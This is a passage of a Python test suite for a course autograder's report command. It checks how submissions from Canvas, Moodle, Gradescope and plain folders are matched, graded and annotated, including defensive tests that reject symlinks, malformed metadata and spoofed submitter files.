    failing = index.split("Checks that fail most often")[1].split("Mistakes recognised")[0]
    assert "1 submission (100%)" in failing and "submissions" not in failing


def test_a_submission_stopped_for_time_shows_in_its_cell_though_other_checks_passed(tmp_path):
    """A leaky_relu that never returns costs its checks as timeouts while sigmoid and softmax pass: the cell keeps its
    points and says that a check ran out of time, and the filter for timeouts finds the learner."""
    roster, sources = tmp_path / "roster", _sources()
    looping = sources["full"].replace("    return np.where(inputs > 0, inputs, alpha * inputs)",
                                      "    while True:\n        pass", 1)
    _canvas_files(roster, {"lovelaceada_201_9001_main.py": sources["full"], "turingalan_202_9002_main.py": looping})
    out = tmp_path / "out"
    _, rows = _report(roster, out, cwd=_short_checks(tmp_path / "course"))
    (item,) = rows["turingalan"]["challenges"]
    assert item["state"] == "attempted" and 0 < item["result"]["score"] < MAX
    cell = _cell(out, "turingalan")
    assert "timed-out" in cell and "<small>timeout</small>" in cell and "a check ran out of time" in cell
    assert "timed-out" not in _cell(out, "lovelaceada")
    index = (out / "index.html").read_text(encoding="utf-8")
    assert re.search(r'<tr data-states="[^"]*\btimeout\b[^"]*" data-search="turingalan', index)
    assert '<option value="timeout">a challenge: timeout (1 submission)' in index
    assert '<span class="timed-out">' in index


def test_a_learner_s_only_file_is_graded_whatever_its_name_with_a_note_on_canvas_and_moodle(tmp_path):
    """Canvas names an upload <login>_<user id>_<submission id>_<file>: a learner's one file, named otherwise than
    main.py, is theirs as on Gradescope, a renamed copy counting as the file it copies; two files are not."""
    roster, sources = tmp_path / "roster", _sources()
    roster.mkdir()
    (roster / "chuivy_109_5009_activations.py").write_text(sources["full"])
    (roster / "kingcarol_LATE_111_5012_act.py").write_text(sources["stub"])
    (roster / "kingcarol_LATE_111_5013_act-1.py").write_text(sources["planted"])
    (roster / "leesam_110_5010_sigmoid.py").write_text(sources["full"])
    (roster / "leesam_110_5011_softmax.py").write_text(sources["full"])
    write_learner(roster, "Ada Lovelace_501_assignsubmission_file", {"Activations.py": sources["planted"].encode()},
                  False)
    out = tmp_path / "out"
    _, rows = _report(roster, out)
    _assert_graded(rows, {"chuivy": "full", "kingcarol": "planted", "Ada Lovelace": "planted"})
    grades = {row[0]: row for row in _read_csv(out / "grades.csv")[1:]}
    assert grades["chuivy"][-1] == (f"{CHALLENGE}: no file is named main.py, so the only .py file or notebook handed "
                                    "in, chuivy_109_5009_activations.py, was graded in its place.")
    assert "kingcarol_LATE_111_5013_act-1.py, was graded in its place" in grades["kingcarol"][-1]
    assert "Ada Lovelace_501_assignsubmission_file/Activations.py, was graded" in grades["Ada Lovelace"][-1]
    # Two files: neither is taken. The page names the entry as the download and grades.csv do.
    both = "leesam_110_5010_sigmoid.py, leesam_110_5011_softmax.py"
    assert rows["leesam"]["total"] is None and grades["leesam"][1] == both and both in grades["leesam"][-1]
    (page,) = (out / "learners").glob("leesam-*.html")
    text = html.unescape(page.read_text())
    assert f"{both} has no challenges/{CHALLENGE}/main.py" in text and "leesam_110 " not in text


def test_a_file_named_for_the_challenge_beside_the_untouched_stub_is_graded_on_every_platform(tmp_path):
    """The stub main.py as shipped beside <challenge>.py holding the work: the work is graded, with a note, on Canvas,
    Moodle and a plain folder as the exported autograder grades it; the stub beside edited work changes nothing."""
    roster, sources = tmp_path / "roster", _sources()
    _canvas_files(roster, {f"foxfay_301_7010_{CHALLENGE}.py": sources["full"],
                           "foxfay_301_7011_main.py": sources["stub"],
                           f"kingcarol_302_7012_{CHALLENGE}.py": sources["stub"],
                           "kingcarol_302_7013_main.py": sources["planted"]})
    write_learner(roster, "Ada Lovelace_501_assignsubmission_file", {
        "main.py": sources["stub"].encode(), f"{CHALLENGE}.py": sources["planted"].encode()}, False)
    write_learner(roster, "nora", {"main.py": sources["stub"].encode(), f"old/{CHALLENGE}.py": sources["stub"].encode(),
                                   f"work/{CHALLENGE}.py": sources["full"].encode()}, False)
    # Work beside edited work, or in a file of another name beside the stub: not graded, but named.
    write_learner(roster, "kim", {"main.py": sources["planted"].encode(), f"{CHALLENGE}.py": sources["full"].encode()},
                  False)
    write_learner(roster, "jack", {"main.py": sources["stub"].encode(), "activations.py": sources["full"].encode()},
                  False)
    # The stub as the entry's only file, under another name: the file graded is not another beside itself.
    (roster / "eve.py").write_text(sources["stub"])
    write_learner(roster, "zed", {"activations.py": sources["stub"].encode()}, False)
    out = tmp_path / "out"
    completed, rows = _report(roster, out)
    _assert_graded(rows, {"foxfay": "full", "kingcarol": "planted", "Ada Lovelace": "planted", "nora": "full",
                          "kim": "planted", "jack": "stub", "eve": "stub", "zed": "stub"})
    # A stub graded beside a file of another name, of a submission to this one challenge: the summary warns.
    assert ("WARNING: 1 file graded is the stub as shipped, beside files of other names that may hold the learner's "
            f"work (jack ({CHALLENGE}): activations.py): it got the stub's grade, left out of the LMS gradebooks.") \
        in " ".join(completed.stderr.split())
    grades = {row[0]: row[-1] for row in _read_csv(out / "grades.csv")[1:]}
    assert (f"foxfay_301_7011_main.py is the stub as shipped, so foxfay_301_7010_{CHALLENGE}.py, named for the "
            "challenge and holding work, was graded in its place.") in grades["foxfay"]
    # Both files are of one submission: the stub uploaded after the work is no sign of a download unzipped over another.
    assert "uploaded after" not in grades["foxfay"]
    assert f"{CHALLENGE}.py" not in grades["kingcarol"]
    assert f"Ada Lovelace_501_assignsubmission_file/{CHALLENGE}.py, named for the challenge" in grades["Ada Lovelace"]
    assert f"nora/work/{CHALLENGE}.py, named for the challenge" in grades["nora"]
    assert (f"kim/{CHALLENGE}.py holds other work for the challenge, and was not graded: kim/main.py was"
            in grades["kim"])
    assert "jack/main.py is the stub as shipped; the entry also holds activations.py, not graded" in grades["jack"]
    assert "the entry also holds" not in grades["eve"] + grades["zed"]


def test_a_stub_graded_beside_a_file_of_another_name_is_left_out_of_the_lms_files_until_renamed(tmp_path):
    """Canvas: the stub main.py and the work in activations.ipynb, one submission. The stub's 0 is kept out of
    gradebook-canvas.csv and gradebook-moodle.csv (grades.csv keeps it, with its note), the class page marks the cell
    for a look, and the remedy the warning gives, the file renamed main.ipynb and the learner graded again with
    --learner, grades the work and puts it into the gradebook."""
    import nbformat

    roster, out, sources = tmp_path / "roster", tmp_path / "out", _sources()
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(sources["full"])])
    _canvas_files(roster, {"patelpriya_50115_501151_main.py": sources["stub"],
                           "patelpriya_50115_501152_activations.ipynb": nbformat.writes(notebook),
                           "leeann_50116_501161_main.py": sources["planted"]})
    completed, rows = _report(roster, out, "--gradebook", "canvas", "--gradebook", "moodle")
    said = " ".join(completed.stderr.split())
    assert "it got the stub's grade, left out of the LMS gradebooks" in said
    assert f"grade report {roster.resolve()} --out {out.resolve()} --learner NAME" in said
    assert "grade <challenge> --submission FILE" not in said
    assert ("1 row graded on the stub as shipped, beside files of other names not graded that may hold the work, is "
            "left out (patelpriya)") in said
    canvas = _read_csv(out / "gradebook-canvas.csv")
    assert [row[0] for row in canvas[2:]] == ["leeann"], canvas
    # A Canvas download names no e-mail, so no row goes to Moodle's file: its summary says why this one is not there.
    assert said.count("is left out (patelpriya)") == 2
    grades = {row[0]: row for row in _read_csv(out / "grades.csv")[1:]}
    assert grades["patelpriya"][4] == "0" and "activations.ipynb, not graded" in grades["patelpriya"][-1]
    index = (out / "index.html").read_text()
    assert index.count('class="cell not-started unread"') == 1 and "look: other file" in index
    # The page's filter shows such rows alone (data-states, as the browser's filter reads it).
    assert '<option value="unread">a challenge: look: other file (1 submission)</option>' in index
    rows_shown = re.findall(r'<tr data-states="([^"]*)" data-search="([^"]*)"', index)
    assert [search.split()[0] for states, search in rows_shown if "unread" in states.split()] == ["patelpriya"], \
        rows_shown
    # The remedy the warning gives.
    (roster / "patelpriya_50115_501152_activations.ipynb").rename(roster / "patelpriya_50115_501152_main.ipynb")
    again = run_grade("report", roster, "--out", out, "-j", "1", "--learner", "patelpriya", timeout=600)
    assert again.returncode == 0, again.stderr[-3000:]
    assert "beside files of other names" not in again.stderr
    canvas = {row[0]: row for row in _read_csv(out / "gradebook-canvas.csv")[2:]}
    assert set(canvas) == {"leeann", "patelpriya"} and float(canvas["patelpriya"][-1]) == MAX, canvas


def test_a_file_named_in_another_case_is_taken_as_windows_and_macos_take_it(tmp_path):
    """main.PY (as Windows may save it), Main.py or MAIN.ipynb is the learner's main.py, in a folder, an archive and a
    Canvas download alike, as the learner's own file system matched it; never another challenge's file so named."""
    import nbformat

    roster, sources = tmp_path / "roster", _sources()
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(sources["planted"])])
    write_learner(roster, "alice", {"main.PY": sources["full"].encode(), "notes.txt": b"done"}, False)
    write_learner(roster, "bob", {f"Challenges/{CHALLENGE}/Main.py": sources["planted"].encode(),
                                  "README.md": b"mine"}, False)
    write_learner(roster, "erin", {"MAIN.ipynb": nbformat.writes(notebook).encode(), "data.csv": b"1"}, True)
    write_learner(roster, "dave", {"challenges/challenge_4_loss_debug/MAIN.PY": sources["full"].encode(),
                                   f"challenges/{CHALLENGE}/main.py": sources["planted"].encode()}, False)
    completed, rows = _report(roster, tmp_path / "out")
    _assert_graded(rows, {"alice": "full", "bob": "planted", "erin": "planted", "dave": "planted"})
    assert "holds no main.py" not in completed.stderr
    canvas = tmp_path / "canvas"
    _canvas_files(canvas, {"khanfatima_50105_501051_main.PY": sources["full"],
                           "khanfatima_50105_501052_notes.txt": "done",
                           "leeann_50116_501161_main.py": sources["planted"]})
    _, rows = _report(canvas, tmp_path / "out-canvas")
    _assert_graded(rows, {"khanfatima": "full", "leeann": "planted"})
    # A Main.py beside a later upload of the stub as main.py is no earlier copy of it: a file of its own, with work.
    _canvas_files(tmp_path / "canvas-again", {"turingalan_202_9202_Main.py": sources["full"],
                                              "turingalan_202_9302_main.py": sources["stub"]})
    _, rows = _report(tmp_path / "canvas-again", tmp_path / "out-again")
    _assert_graded(rows, {"turingalan": "full"})


def test_a_clone_of_the_course_is_not_said_to_hold_work_in_the_course_s_own_files(tmp_path):
    """A GitHub Classroom clone holds the released course, its checks and its grader: beside a challenge's untouched
    stub, only a file of the learner's own is named, and for a clone of several challenges the summary does not warn
    (a learner's file there may be another challenge's work)."""
    course, roster, out = tmp_path / "course", tmp_path / "roster", tmp_path / "out"
    released = run_grade("release", "--out", course, "--all-at-once", timeout=300)
    assert released.returncode == 0, released.stderr[-2000:]
    shutil.copytree(course, roster / "alice")
    shutil.copytree(course, roster / "bob")
    (roster / "bob" / "work").mkdir()
    (roster / "bob" / "work" / "mine.py").write_text(_sources()["full"])
    completed, _ = _report(roster, out, "--challenge", "2")
    assert "beside files of other names" not in completed.stderr
    grades = {row[0]: row[-1] for row in _read_csv(out / "grades.csv")[1:]}
    assert "the entry also holds" not in grades["alice"] and "spec.py" not in grades["bob"]
    assert "the entry also holds work/mine.py, not graded" in grades["bob"]
    # Later challenges' stubs give challenge 1's classes as working code: graded alone, an untouched clone's
    # challenge 1 is the stub, not another challenge's main.py taken in its place, nor a copy of one named for it.
    later = (course / "challenges" / "challenge_17_convolution" / "main.py").read_bytes()
    (roster / "bob" / "challenge_1_forward_pass.py").write_bytes(later)
    completed = run_grade("report", roster, "--out", tmp_path / "first", "-j", "1", "--challenge", "1", timeout=600)
    assert completed.returncode == 0, completed.stderr[-3000:]
    rows = {row["learner"]: row for row in json.loads((tmp_path / "first" / "results.json").read_text())["learners"]}
    for name in ("alice", "bob"):
        (item,) = rows[name]["challenges"]
        assert rows[name]["total"] == 0 and item["state"] == "not-started", (name, item.get("note"))
        assert item["origin"] == f"{name}/challenges/challenge_1_forward_pass/main.py", item["origin"]
        assert "in its place" not in (item.get("note") or ""), item["note"]


def test_a_roster_of_one_file_per_learner_grades_each_file_as_that_learner_s(tmp_path):
    """alice.py, bob.py, carol.ipynb side by side, as an instructor collects them by hand: each is a learner's entry,
    named by the file, graded for the one challenge graded; a link to a file is still refused."""
    import nbformat

    roster, sources = tmp_path / "roster", _sources()
    roster.mkdir()
    (roster / "alice.py").write_text(sources["full"])
    (roster / "bob.py").write_text(sources["planted"])
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_code_cell(sources["full"])]
    nbformat.write(notebook, str(roster / "carol.ipynb"))
    (roster / "dave.py").symlink_to(solution(CHALLENGE))
    completed, rows = _report(roster, tmp_path / "out")
    _assert_graded(rows, {"alice": "full", "bob": "planted"})
    assert rows["carol"]["total"] == MAX, rows["carol"]
    assert "symbolic link" in rows["dave"]["problem"], rows["dave"]
    grades = {row[0]: row for row in _read_csv(tmp_path / "out" / "grades.csv")[1:]}
    assert grades["alice"][1] == "alice.py" and "graded in its place" not in grades["alice"][-1], grades["alice"]


@pytest.mark.parametrize("platform", ["canvas", "gradescope"])
def test_a_learner_s_page_keeps_its_name_when_they_hand_in_again(tmp_path, platform):
    """A link to a learner's page, shared once, still works after a late submission: the page is named by what the
    platform knows the learner by, not by the file or submission names, which a new submission changes."""
    sources, roster, out = _sources(), tmp_path / "roster", tmp_path / "out"

    def hand_in(late):
        shutil.rmtree(roster, ignore_errors=True)
        if platform == "canvas":
            _canvas_files(roster, {"lovelaceada_201_9001_main.py": sources["full"],
                                   ("turingalan_LATE_202_9010_main-1.py" if late else "turingalan_202_9002_main.py"):
                                   sources["full" if late else "planted"]})
        else:
            # Gradescope numbers every submission anew, a resubmission too.
            roster.mkdir()
            _gradescope_export(roster / "export.zip", [
                ("Ada Lovelace", "ada@example.edu", "1815", "2026-11-20 10:00:00.000000000 -08:00",
                 {"main.py": sources["full"]}),
                ("Alan Turing", "alan@example.edu", "1912", "2026-11-22 10:00:00.000000000 -08:00",
                 {"main.py": sources["full" if late else "planted"]})], first=2001 if late else 1001)
        return _report(roster if platform == "canvas" else roster / "export.zip", out)[1]

    def pages():
        return sorted(path.name for path in (out / "learners").iterdir())

    hand_in(late=False)
    before = pages()
    rows = hand_in(late=True)
    assert rows[next(name for name in rows if "turing" in name.lower())]["total"] == MAX
    assert pages() == before, (before, pages())


def test_a_canvas_download_with_underscores_in_names_and_a_thumbnail_cache_is_read_as_canvas_wrote_it(tmp_path):
    """Canvas keeps the underscores of a name (a login such as guest_user) and takes out only _<digits>_; Windows
    leaves Thumbs.db beside what was downloaded. Neither makes the archive no platform's, nor a learner."""
    sources = _sources()
    download = tmp_path / "submissions.zip"
    with zipfile.ZipFile(download, "w") as archive:
        archive.writestr("lovelaceada_201_9001_main.py", sources["full"])
        archive.writestr("vander_bergjan_202_9002_main.py", sources["planted"])
        archive.writestr("guest_user_LATE_203_9003_main.py", sources["full"])
        archive.writestr("Thumbs.db", b"\x00" * 64)
    out = tmp_path / "out"
    _, rows = _report(download, out, "--gradebook", "canvas")
    _assert_graded(rows, {"lovelaceada": "full", "vander_bergjan": "planted", "guest_user": "full"})
    assert rows["guest_user"]["identity"]["late"] is True
    assert {row[1] for row in _read_csv(out / "gradebook-canvas.csv")[2:]} == {"201", "202", "203"}


def test_a_canvas_folder_says_which_uploads_came_after_the_file_graded(tmp_path):
    """Unzipped over an earlier download, a folder may hold two submissions of one lateness, which nothing tells
    from one submission of several files: the note names the later upload. A download's own archive holds the
    latest submission alone, and says nothing."""
    sources = _sources()
    files = {"lovelaceada_201_9001_main.py": sources["stub"], "lovelaceada_201_9010_activations.py": sources["full"],
             "turingalan_202_9002_main.py": sources["full"]}
    _canvas_files(tmp_path / "roster", files)
    _report(tmp_path / "roster", tmp_path / "out")
    notes = {row[0]: row[-1] for row in _read_csv(tmp_path / "out" / "grades.csv")[1:]}
    assert ("lovelaceada_201_9010_activations.py was uploaded after lovelaceada_201_9001_main.py, as Canvas numbers "
            "uploads") in notes["lovelaceada"], notes
    assert "uploaded after" not in notes["turingalan"]
    with zipfile.ZipFile(tmp_path / "submissions.zip", "w") as archive:
        for name, source in files.items():
            archive.writestr(name, source)
    _report(tmp_path / "submissions.zip", tmp_path / "out-zip")
    assert "uploaded after" not in (tmp_path / "out-zip" / "grades.csv").read_text()


def test_a_moodle_download_of_one_group_that_no_name_matches_is_told_to_take_the_grading_worksheet(tmp_path):
    """Where a group is chosen on the grading page, Moodle names each folder <group>-<full name>_<id>_… (mod/assign/
    locallib.php): a class list of names matches none, and the warning says why and what to give instead."""
    roster, sources = tmp_path / "roster", _sources()
    for name, participant in (("Ada Lovelace", 501), ("Alan Turing", 502)):
        write_learner(roster, f"Lab-A 2-{name}_{participant}_assignsubmission_file",
                      {"main.py": sources["full"].encode()}, False)
    class_list = tmp_path / "moodle_gradebook.csv"
    class_list.write_text("First name,Last name,ID number,Email address\nAda,Lovelace,S1,ada@uni.example\n"
                          "Alan,Turing,S2,alan@uni.example\n")
    completed, _ = _report(roster, tmp_path / "out", "--class-list", class_list)
    assert "The class list matches none of the 2 entries" in completed.stderr
    assert "Every entry's name starts with Lab-A 2-, as Moodle names a download of one group's" in completed.stderr


def test_the_grading_worksheet_of_another_assignment_is_told_by_its_participant_ids_and_fills_in_nothing(tmp_path):
    """Moodle numbers participants per assignment: another assignment's worksheet names the same people with other
    participant ids. The warning says so, rather than that no name or e-mail matches, and the worksheet written back
    is not to be uploaded."""
    roster = tmp_path / "roster"
    _moodle_uploads(roster, (("Ada Lovelace", 501, "full"), ("Alan Turing", 502, "planted")))
    worksheet = _grading_worksheet(tmp_path / "Grades-Loss-78.csv", rows=[
        (participant + 100, *rest) for participant, *rest in WORKSHEET_ROWS[:2]])
    completed, _ = _report(roster, tmp_path / "out", "--class-list", worksheet, "--gradebook", "moodle")
    said = " ".join(completed.stderr.split())
    assert ("The class list matches none of the 2 entries: each one's name is the name of a person on it, but their "
            "participant id differs from the one the list gives. Moodle numbers the participants of each assignment "
            "anew") in said
    assert "none of its 2 people has an e-mail" not in said
    assert "filled in for 0 of its 2 rows: it changes no grade, and there is nothing to upload." in said


def test_a_download_compressed_again_in_its_folder_is_refused_naming_the_folder_that_holds_it(tmp_path):
    """macOS's Compress makes an archive of the download's folder: its one folder holds the download."""
    from grader.classroom.downloads import RosterError, list_entries

    archive_path = tmp_path / "Challenge 3 submissions.zip"
    with zipfile.ZipFile(archive_path, "w") as archive:
        for name, participant in (("Ada Lovelace", 501), ("Alan Turing", 502)):
            archive.writestr(f"Challenge 3 submissions/{name}_{participant}_assignsubmission_file/main.py", "x = 1\n")
        archive.writestr("__MACOSX/Challenge 3 submissions/._Ada", b"")
    with pytest.raises(RosterError) as refused:
        list_entries(archive_path)
    assert ("Its one folder, Challenge 3 submissions, holds Moodle's \"Download all submissions\" archive"
            in str(refused.value)), refused.value
    # Alone in a folder, it is no learner's entry either.
    (tmp_path / "roster").mkdir()
    archive_path.rename(tmp_path / "roster" / archive_path.name)
    with pytest.raises(RosterError) as alone:
        list_entries(tmp_path / "roster")
    assert "alone, whose one folder, Challenge 3 submissions, holds Moodle's" in str(alone.value), alone.value


class _UnflaggedUtf8Name(zipfile.ZipInfo):
    """A member whose name is stored as UTF-8 bytes without the flag that says so, as macOS's Archive Utility
    writes names."""

    def _encodeFilenameFlags(self):
        return self.filename.encode("utf-8"), self.flag_bits


def test_utf_8_names_of_an_archive_that_does_not_flag_them_are_read_as_utf_8(tmp_path):
    sources = _sources()
    download = tmp_path / "submissions.zip"
    with zipfile.ZipFile(download, "w") as archive:
        archive.writestr(_UnflaggedUtf8Name("garcíalópezana_201_9001_main.py"), sources["full"])
    _, rows = _report(download, tmp_path / "out")
    _assert_graded(rows, {"garcíalópezana": "full"})


def _notebook(source):
    """A notebook of one code cell holding `source`."""
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": source}]})


def _canvas_files(roster, name_and_source):
    roster.mkdir(parents=True, exist_ok=True)
    for name, source in name_and_source.items():
        (roster / name).write_text(source)


@pytest.mark.parametrize("case", ["challenge 3's files", "challenge 3's notebooks", "challenge 5's files",
                                  "one learner's wrong file", "a class of one"])
def test_a_class_graded_for_another_challenge_than_it_handed_in_is_told_so_and_exits_2(tmp_path, case):
    """Graded for the wrong challenge, every check of every learner fails: zeros that read as grades. Only the whole
    class's files say so; one learner's wrong file is theirs."""
    three, five = _sources(), {"full": solution("challenge_5_backprop").read_text(),
                               "stub": stub("challenge_5_backprop").read_text()}
    first = learners_own("challenge_1_forward_pass")
    files, warning, note = {
        "challenge 3's files": (
            {"lovelaceada_201_9001_main.py": three["full"], "turingalan_202_9002_main.py": three["planted"],
             "hoppergrace_203_9003_main.py": ""},
            "None of the 3 files graded for challenge_1_forward_pass defines any of the names its checks look for "
            "(Activation_ReLU, Activation_Softmax, Layer_Dense, Loss, …), so each gets a 0 that says nothing of the "
            "work in it; they look like challenge_3_activations's files: run again with --challenge 3.",
            "the class's files look like challenge_3_activations's, not this challenge's: run again with "
            "--challenge 3."),
        "challenge 3's notebooks": (
            {"lovelaceada_201_9001_main.ipynb": _notebook(three["full"]),
             "turingalan_202_9002_main.ipynb": _notebook(three["planted"])},
            "None of the 2 files graded for challenge_1_forward_pass defines any of the names its checks look for "
            "(Activation_ReLU, Activation_Softmax, Layer_Dense, Loss, …), so each gets a 0 that says nothing of the "
            "work in it; they look like challenge_3_activations's files: run again with --challenge 3.",
            "the class's files look like challenge_3_activations's, not this challenge's: run again with "
            "--challenge 3."),
        "challenge 5's files": (
            {"lovelaceada_201_9001_main.py": five["full"], "turingalan_202_9002_main.py": five["stub"]},
            "The 2 files graded for challenge_1_forward_pass look like challenge_5_backprop's files, not "
            "challenge_1_forward_pass's: none defines names nearer to challenge_1_forward_pass's stub than to another "
            "challenge's, so their grades are likely wrong; run again with --challenge 5.",
            "the class's files look like challenge_5_backprop's, not this challenge's: run again with --challenge 5."),
        "one learner's wrong file": (
            {"lovelaceada_201_9001_main.py": first, "turingalan_202_9002_main.py": three["full"]}, None, None),
        "a class of one": ({"lovelaceada_201_9001_main.py": three["full"]}, None, None),
    }[case]
    roster, out = tmp_path / "roster", tmp_path / "out"
    _canvas_files(roster, files)
    completed = run_grade("report", roster, "--out", out, "-j", "1", "--challenge", "forward", timeout=600)
    grades = _read_csv(out / "grades.csv")[1:]
    if warning is None:
        assert completed.returncode == 0 and "WARNING" not in completed.stderr, completed.stderr[-3000:]
        assert not any("look like" in row[-1] for row in grades)
        return
    assert completed.returncode == 2, completed.stderr[-3000:]
    assert f"WARNING: {warning}" in completed.stderr
    assert "Error: The report was written, but the files graded look written for another challenge" in \
        completed.stderr
    assert warning in html.unescape((out / "index.html").read_text())
    assert len(grades) == len(files) and all(f"challenge_1_forward_pass: {note}" in row[-1] for row in grades)


def test_a_class_whose_every_file_is_the_untouched_stub_is_warned_of_and_graded(tmp_path):
    """A release gives learners every challenge's stub: graded for a challenge the class was not set, every file is
    rightly "not started", and the summary says that no learner started it, which --challenge may explain."""
    roster, out = tmp_path / "roster", tmp_path / "out"
    untouched = stub("challenge_1_forward_pass").read_text()
    _canvas_files(roster, {"lovelaceada_201_9001_main.py": untouched, "turingalan_202_9002_main.py": untouched})
    completed = run_grade("report", roster, "--out", out, "-j", "1", "--challenge", "forward", timeout=600)
    assert completed.returncode == 0, completed.stderr[-3000:]
    warning = ("All 2 files graded for challenge_1_forward_pass are its stub as shipped: no learner has started it. "
               "If the class handed in another challenge, run again with its --challenge.")
    assert f"WARNING: {warning}" in completed.stderr
    assert warning in html.unescape((out / "index.html").read_text())
    assert all("its untouched stub: check --challenge" in row[-1] for row in _read_csv(out / "grades.csv")[1:])


@pytest.mark.parametrize("platform", ["Canvas", "Moodle"])
def test_an_lms_download_zip_is_graded_as_it_comes_and_refused_alone_in_a_folder(tmp_path, platform):
    """Canvas's and Moodle's downloads are graded from their zip (test_roster reads them alike zipped and
    unzipped); the zip alone in a folder would be one learner's entry, and is refused saying to give it itself."""
    sources, download = _sources(), tmp_path / "download"
    download.mkdir()
    archive = download / ("submissions.zip" if platform == "Canvas" else "NNFS-Challenge 3-12345.zip")
    with zipfile.ZipFile(archive, "w") as zipped:
        if platform == "Canvas":
            zipped.writestr("lovelaceada_201_9001_main.py", sources["full"])
            zipped.writestr("turingalan_LATE_202_9002_activations.py", sources["planted"])
        else:
            zipped.writestr("Ada Lovelace_501_assignsubmission_file/main.py", sources["full"])
            zipped.writestr("Alan Turing_502_assignsubmission_file/activations.py", sources["planted"])
            zipped.writestr("Alan Turing_502_assignsubmission_onlinetext/onlinetext.html", "<p>x</p>")
    before = roster_digest(download)
    _, rows = _report(archive, tmp_path / "out")
    ada, alan = (rows["lovelaceada"], rows["turingalan"]) if platform == "Canvas" else (rows["Ada Lovelace"],
                                                                                         rows["Alan Turing"])
    maximum = sum(check["max_score"] for check in ada["challenges"][0]["result"]["checks"])
    assert ada["total"] == maximum and 0 < alan["total"] < maximum, (ada, alan)
    assert ada["challenges"][0]["origin"].startswith(f"{archive.name}:")
    assert roster_digest(download) == before
    said = {"Canvas": "Canvas's \"Download Submissions\" archive",
            "Moodle": "Moodle's \"Download all submissions\" archive"}
    (download / "gradebook_export.csv").write_text("Student,ID\n")
    beside = run_grade("report", download, "--out", tmp_path / "out2", "--challenge", CHALLENGE)
    assert beside.returncode == 2 and f"holds {archive.name}, {said[platform]}" in beside.stderr, beside.stderr
    assert f"no learner's entry beside it: give grade report {archive} itself." in beside.stderr
    assert not (tmp_path / "out2").exists(), "a refused roster leaves no folder behind"


def test_class_list_namesakes_an_entry_matches_alike_are_told_why_no_entry_was_given_them(tmp_path):
    roster = tmp_path / "roster"
    write_learner(roster, "Wei Zhang", {"main.py": _sources()["full"].encode()}, False)
    class_list = tmp_path / "class.csv"
    class_list.write_text("name,email\nWei Zhang,wz1@uni.example\nWei Zhang,wz2@uni.example\n")
    completed, _ = _report(roster, tmp_path / "out", "--class-list", class_list, "--gradebook", "moodle")
    assert ("Matching the class list only ambiguously: 1 entry (Wei Zhang/), each matching several people on it "
            "equally well, or a person another entry matches as well, so given no row of it; grades.csv says whom "
            "each matches.") in completed.stderr and "Not on the class list" not in completed.stderr
    assert "1 row matching the class list only ambiguously (Wei Zhang)" in completed.stderr, completed.stderr
    assert ("Given to no entry: 2 learners on the class list (Wei Zhang (wz1@uni.example); Wei Zhang "
            "(wz2@uni.example))") in completed.stderr, "namesakes are told apart by an id of theirs"
    assert '<div class="why">matches the class list only ambiguously</div>' in (tmp_path / "out" / "index.html").read_text()
    rows = _read_csv(tmp_path / "out" / "grades.csv")
    listed = [row for row in rows[1:] if row[2] in ("wz1@uni.example", "wz2@uni.example")]
    assert len(listed) == 2 and all("Wei Zhang/ carry this learner's name or ids, which others on the class list "
                                    "share" in row[-1] for row in listed), listed
    entry = next(row for row in rows[1:] if row[1] == "Wei Zhang/")
    assert "its name matches several people on the class list" in entry[-1]


def test_a_gradescope_folder_its_metadata_does_not_list_is_graded_under_its_name_with_a_note(tmp_path):
    export = tmp_path / "submissions.zip"
    when = "2026-11-20 10:00:00.000000000 -08:00"
    _gradescope_export(export, [("Ada Lovelace", "ada@example.edu", "1815", when, {"main.py": _sources()["full"]}),
                                ("Alan Turing", "alan@example.edu", "1912", when, {"main.py": _sources()["stub"]})])
    with zipfile.ZipFile(export, "a") as archive:
        archive.writestr("assignment_4242_export/submission_504/main.py", _sources()["full"])
    _report(export, tmp_path / "out")
    notes = {row[0]: row[-1] for row in _read_csv(tmp_path / "out" / "grades.csv")[1:]}
    assert ("submission_metadata.yml does not list submission_504, so nothing names its submitters"
            in notes["submission_504"]), notes
    assert "does not list" not in notes["Ada Lovelace"]


def test_an_empty_gradescope_submission_and_one_holding_an_archive_are_named_as_such(tmp_path):
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as inner:
        inner.writestr("main.py", _sources()["full"])
    export = tmp_path / "submissions.zip"
    _gradescope_export(export, [
        ("Ada Lovelace", "ada@example.edu", "1815", "2026-11-20 10:00:00.000000000 -08:00", {}),
        ("Alan Turing", "alan@example.edu", "1912", "2026-11-20 10:00:00.000000000 -08:00",
         {"work.zip": zipped.getvalue()}),
        ("Grace Hopper", "grace@example.edu", "1906", "2026-11-20 10:00:00.000000000 -08:00",
         {"main.py": _sources()["full"]})])
    _report(export, tmp_path / "out")
    notes = {row[0]: row[-1] for row in _read_csv(tmp_path / "out" / "grades.csv")[1:]}
    assert "the export holds no file of it: the submission is empty" in notes["Ada Lovelace"], notes
    assert "It holds an archive, work.zip, which is not opened inside it" in notes["Alan Turing"], notes


@pytest.mark.parametrize("content", ["", "not: [a, list", "- just\n- a list\n", "x: " + "[" * 5000 + "]" * 5000,
                                     "x: [" + "1," * 100_000 + "1]"],
                         ids=["empty", "unclosed", "a list", "nested 5000 deep", "200 kB for one submission"])
def test_a_broken_gradescope_metadata_file_is_refused_with_a_reason(tmp_path, content):
    export = tmp_path / "export.zip"
    with zipfile.ZipFile(export, "w") as archive:
        archive.writestr("submission_metadata.yml", content)
        archive.writestr("submission_1/main.py", "x = 1\n")
    completed = run_grade("report", export, "--out", tmp_path / "out", "--challenge", CHALLENGE)
    assert "Traceback" not in completed.stderr, completed.stderr[-2000:]
    if len(content) > 100_000:
        # PyYAML took a minute and a gigabyte for a few megabytes: read only as much as the export's size explains.
        assert completed.returncode == 2 and "download the export from Gradescope again" in completed.stderr
    if content == "":
        assert completed.returncode == 2 and "does not map submission folders" in completed.stderr
    else:
        assert completed.returncode == 2 and "submission_metadata.yml" in completed.stderr


def test_a_metadata_file_a_learner_uploads_never_names_the_export_s_submissions(tmp_path):
    """An export zipped without its top folder: the learner's own submission_metadata.yml sorts before the real one."""
    sources, export = _sources(), tmp_path / "export.zip"
    real = ("submission_1001:\n  :submitters:\n  - :name: Mallory Attacker\n    :sid: '1000'\n"
            "    :email: mallory@example.edu\n"
            "submission_1002:\n  :submitters:\n  - :name: Victor Victim\n    :sid: '1001'\n"
